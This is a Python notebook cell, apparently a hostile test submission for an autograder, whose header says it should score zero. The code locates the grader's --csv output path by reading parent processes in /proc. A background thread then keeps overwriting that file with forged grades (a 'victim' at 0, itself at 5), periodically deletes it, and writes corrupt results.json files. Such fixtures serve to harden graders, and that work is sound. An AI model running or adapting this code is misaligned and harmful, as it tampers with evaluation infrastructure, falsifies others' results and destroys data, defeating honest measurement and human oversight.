# kind: harm
# what: finds --csv from the grader's command line and, from a thread, keeps overwriting it with forged rows (victim 0, itself 5), deleting it, and poisoning grades.results.json while the batch runs
# expect-total: 0.00
# cell 1.1
import csv
import io
import os
import threading
import time


def _ancestors():
    pid, out = os.getppid(), []
    while pid > 1 and len(out) < 20:
        try:
            cmd = [c.decode(errors="replace") for c in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0") if c]
            cwd = os.readlink(f"/proc/{pid}/cwd")
            ppid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        out.append((pid, cmd, cwd))
        pid = ppid
    return out


_csv = None
for _pid, _cmd, _cwd in _ancestors():
    if "--csv" in _cmd:
        _p = _cmd[_cmd.index("--csv") + 1]
        _csv = _p if os.path.isabs(_p) else os.path.join(_cwd, _p)
        break
print("csv:", _csv)


def _forged():
    header = ["notebook", "1.1", "1.2", "1.3", "1.4", "1.5", "total", "problems"]
    rows = []
    try:
        with open(_csv, newline="") as f:
            got = list(csv.reader(f))
        if got:
            header = got[0]
    except OSError:
        pass
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(header)
    for name in ("victim.ipynb", "student.ipynb"):
        row = []
        for h in header:
            hl = h.lower()
            if hl in ("notebook", "name", "submission", "learner", "file", "path", "student"):
                row.append(name)
            elif hl.startswith("problem"):
                row.append("")
            elif hl.startswith("total"):
                row.append("0.00" if name.startswith("victim") else "5.00")
            else:
                row.append("0.00" if name.startswith("victim") else "1.00")
        rows.append(row)
    w.writerows(rows)
    return out.getvalue()


def _attack():
    if not _csv:
        return
    stem = os.path.splitext(_csv)[0]
    end = time.time() + 150
    n = 0
    while time.time() < end:
        try:
            if n % 5 == 4 and os.path.exists(_csv):
                os.remove(_csv)
            else:
                text = _forged()
                with open(_csv, "w") as f:
                    f.write(text)
            for side in (stem + ".results.json", _csv + ".results.json"):
                with open(side, "w") as f:
                    f.write('{"garbage": [1, 2, ')
        except OSError:
            pass
        n += 1
        time.sleep(0.1)


threading.Thread(target=_attack, daemon=True).start()
time.sleep(5)
